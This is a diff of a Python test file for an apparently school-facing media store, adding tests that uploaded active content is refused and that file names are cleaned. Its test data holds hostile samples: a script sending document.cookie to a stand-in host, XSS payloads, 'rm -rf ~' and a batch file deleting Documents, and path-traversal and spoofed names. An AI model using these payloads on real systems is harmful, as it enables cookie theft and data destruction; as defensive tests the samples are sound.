@@ -21,23 +21,20 @@ from PIL import ExifTags, Image, ImageChops, ImageCms, ImageDraw, ImageStat
 from pypdf import PdfReader, PdfWriter
 from sqlalchemy import delete, func, select
 
-from media import pipeline as media
-from media.pipeline import (
-    MediaRefusedError,
+from media import store as media_store
+from media.images import heif_available, prepare_image
+from media.refusals import MediaRefusedError, RefusalReason
+from media.sniffing import DOCX, looks_like_image, sniff_mime
+from media.store import (
+    EXTENSIONS,
     MediaStore,
-    RefusalReason,
-    heif_available,
-    looks_like_image,
-    prepare_image,
-    relative_path_for,
-    sniff_mime,
-)
-from storage.media_files import (
     delete_media_if_unused,
-    media_references,
-    record_media,
+    passed_on_name,
+    relative_path_for,
     sweep_orphans,
 )
+from storage.evidence import NewEvidence, create_evidence
+from storage.media_files import clean_file_name, media_references, record_media
 from storage.models import (
     Evidence,
     EvidenceFile,
@@ -519,13 +516,13 @@ async def test_identical_uploads_share_one_file(store: MediaStore):
 
 async def test_decoding_runs_off_the_event_loop(store: MediaStore, monkeypatch):
     threads: list[int] = []
-    real = media.prepare_image
+    real = media_store.prepare_image
 
     def spy(*args, **kwargs):
         threads.append(threading.get_ident())
         return real(*args, **kwargs)
 
-    monkeypatch.setattr(media, "prepare_image", spy)
+    monkeypatch.setattr(media_store, "prepare_image", spy)
     await store.store_image(phone_jpeg())
     assert threads and threads[0] != threading.get_ident()
 
@@ -662,14 +659,14 @@ async def test_files_with_nothing_to_clean_are_stored_byte_for_byte(
     assert store.path_of(stored).read_bytes() == data
     assert (stored.kind, stored.mime_type, stored.size_bytes) == (kind, mime, len(data))
     assert stored.duration_seconds == 7
-    assert stored.relative_path.endswith("." + media.EXTENSIONS[mime])
+    assert stored.relative_path.endswith("." + EXTENSIONS[mime])
 
 
 @pytest.mark.parametrize(
     ("data", "filename", "mime"),
     [
         (PDF, "werkstuk.pdf", "application/pdf"),
-        (docx_bytes(), "verslag.docx", media._DOCX),
+        (docx_bytes(), "verslag.docx", DOCX),
     ],
 )
 async def test_pdf_and_office_files_are_stored_rewritten_under_their_own_hash(
@@ -680,7 +677,7 @@ async def test_pdf_and_office_files_are_stored_rewritten_under_their_own_hash(
     kept = store.path_of(stored).read_bytes()
     assert (stored.mime_type, stored.size_bytes) == (mime, len(kept))
     assert stored.sha256 == hashlib.sha256(kept).hexdigest()
-    assert stored.relative_path.endswith("." + media.EXTENSIONS[mime])
+    assert stored.relative_path.endswith("." + EXTENSIONS[mime])
     if mime == "application/pdf":
         assert len(PdfReader(io.BytesIO(kept)).pages) == 1
     else:
@@ -702,13 +699,7 @@ async def test_pdf_and_office_files_are_stored_rewritten_under_their_own_hash(
         ),
         (b"\x00\x01\x02 binary", MediaKind.DOCUMENT, "werk.pdf", None, RefusalReason.TYPE_MISMATCH),
         (docx_bytes(), MediaKind.DOCUMENT, "werk.pdf", None, RefusalReason.TYPE_MISMATCH),
-        (
-            docx_bytes(macros=True),
-            MediaKind.DOCUMENT,
-            "werk.docm",
-            None,
-            RefusalReason.UNSUPPORTED_FORMAT,
-        ),
+        (docx_bytes(macros=True), MediaKind.DOCUMENT, "werk.docm", None, RefusalReason.MACROS),
         (PDF, MediaKind.VOICE, None, None, RefusalReason.UNSUPPORTED_FORMAT),
         (
             b"\x00\x01\x02 binary",
@@ -752,6 +743,112 @@ def test_images_sent_as_files_can_be_routed():
     assert looks_like_image((HOSTILE_DIR / "hopper.heif").read_bytes())
     assert not looks_like_image(PDF)
     assert not looks_like_image(mp4_bytes())
+
+
+# --- what a computer would run, and names that lie ----------------------------------------------
+
+ELF_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + bytes(56)
+WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(50)
+
+
+@pytest.mark.parametrize(
+    ("data", "filename", "declared"),
+    [
+        (
+            b"<html><body><script>fetch('https://x.example/?'+document.cookie)</script>",
+            "evil.html",
+            "text/html",
+        ),
+        (b"Mijn verslag\n<script>alert(1)</script>\n", "verslag.txt", "text/plain"),
+        (
+            b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg">'
+            b"<script>alert(1)</script></svg>",
+            "tekening.svg",
+            "image/svg+xml",
+        ),
+        (b'<svg onload="alert(1)"/>', "tekening.txt", None),
+        (b"@echo off\r\ndel /q %USERPROFILE%\\Documents\\*\r\n", "opdracht.bat", None),
+        (b"#!/bin/sh\nrm -rf ~\n", "opdracht.sh", "application/x-sh"),
+        (WINDOWS_PROGRAM, "spel.exe", "application/x-msdownload"),
+        (WINDOWS_PROGRAM, "verslag.pdf", "application/pdf"),
+        (ELF_PROGRAM, "spel", None),
+    ],
+    ids=[
+        "web page",
+        "script in a .txt",
+        "svg",
+        "svg named .txt",
+        "batch file",
+        "shell script",
+        "windows program",
+        "program named .pdf",
+        "linux program",
+    ],
+)
+async def test_what_a_computer_would_run_is_refused_whatever_its_name(
+    store: MediaStore, data: bytes, filename: str, declared: str | None
+):
+    with pytest.raises(MediaRefusedError) as refused:
+        await store.store_file(
+            data, kind=MediaKind.DOCUMENT, filename=filename, declared_mime=declared
+        )
+
+    assert refused.value.reason is RefusalReason.ACTIVE_CONTENT
+    assert files_under(store.root) == []
+
+
+@pytest.mark.parametrize(
+    ("data", "filename", "declared", "passed_on"),
+    [
+        (b"Mijn verslag over krachten\n", "evil.html", "text/html", "evil.txt"),
+        (b"Mijn verslag over krachten\n", "verslag\u202etxt.bat", None, "verslagtxt.txt"),
+        (b"<3 voor mijn juf\n", "kaartje.js", "text/javascript", "kaartje.txt"),
+        (b"MZ staat voor mijn initialen\n", "notitie.exe", None, "notitie.txt"),
+        (PDF, "werkstuk.exe", "application/octet-stream", "werkstuk.pdf"),
+        (docx_bytes(), "verslag", None, "verslag.docx"),
+    ],
+)
+async def test_a_kept_file_is_passed_on_with_the_extension_of_what_it_is(
+    store: MediaStore, data: bytes, filename: str, declared: str | None, passed_on: str
+):
+    stored = await store.store_file(
+        data, kind=MediaKind.DOCUMENT, filename=filename, declared_mime=declared
+    )
+
+    assert passed_on_name(filename, stored.mime_type) == passed_on
+
+
+@pytest.mark.parametrize(
+    ("name", "extension", "clean"),
+    [
+        ("verslag\u202etxt.bat", "txt", "verslagtxt.txt"),
+        ("\u2067lesje\u2069 \u200ftaal\u200e.docx", "docx", "lesje taal.docx"),
+        ("werk\x00\x1b[31m\r\n.pdf", "pdf", "werk[31m.pdf"),
+        ("../../etc/passwd", "txt", "passwd.txt"),
+        ("..\\..\\Windows\\win.ini", "txt", "win.txt"),
+        ("...", "txt", None),
+        (".verborgen", "txt", "verborgen.txt"),
+        ("foto.pdf.exe", "pdf", "foto.pdf"),
+        ("werk.exe . . ", "pdf", "werk.pdf"),
+        ("CON.txt", "txt", "_CON.txt"),
+        ('wat? "ik" <wil> | dit*', "txt", "wat_ _ik_ _wil_ _ dit_.txt"),
+        ("Hoofdstuk 1. Krachten", "pdf", "Hoofdstuk 1. Krachten.pdf"),
+        ("IMG_2041.HEIC", "jpg", "IMG_2041.jpg"),
+    ],
+)
+def test_file_names_are_cleaned(name: str | None, extension: str, clean: str | None):
+    assert clean_file_name(name, extension) == clean
+    # Cleaning a clean name changes nothing.
+    assert clean is None or clean_file_name(clean, extension) == clean
+
+
+@pytest.mark.parametrize("letter", ["a", "é", "😀"])
+def test_an_overlong_file_name_is_cut_to_255_bytes_keeping_its_extension(letter: str):
+    clean = clean_file_name(letter * 300 + ".docx", "docx")
+
+    assert clean is not None and clean.endswith(".docx")
+    assert 250 <= len(clean.encode()) <= 255
+    assert set(clean.removesuffix(".docx")) == {letter}  # no half character at the cut
 
 
 # --- the database side -------------------------------------------------------------------------
@@ -951,3 +1048,34 @@ async def test_a_reference_added_meanwhile_keeps_the_file(session_factory, store
     assert store.path_of(stored).exists()
     async with session_factory() as check:
         assert await _count_media(check) == 1
+
+
+async def test_evidence_keeps_clean_file_names_that_fit_their_column(
+    session, session_factory, store: MediaStore
+):
+    school = await build_school(session_factory)
+    text = await store.store_file(b"Mijn verslag\n", kind=MediaKind.DOCUMENT)
+    pdf = await store.store_file(PDF, kind=MediaKind.DOCUMENT)
+    photo = await store.store_image(phone_jpeg())
+    evidence = await create_evidence(
+        session,
+        school_id=school.school_id,
+        new=NewEvidence(
+            pupil_id=school.persons["P1"],
+            kind=EvidenceKind.DOCUMENT,
+            files=[text, pdf, photo],
+            original_names=["verslag\u202etxt.bat", "ë" * 300 + ".exe", "../IMG_1.HEIC"],
+        ),
+    )
+    await session.commit()
+
+    names = (
+        await session.scalars(
+            select(EvidenceFile.original_name)
+            .where(EvidenceFile.evidence_id == evidence.id)
+            .order_by(EvidenceFile.position)
+        )
+    ).all()
+    assert names[0] == "verslagtxt.txt"
+    assert names[1] is not None and names[1].endswith("ë.pdf") and len(names[1].encode()) <= 255
+    assert names[2] == "IMG_1.jpg"
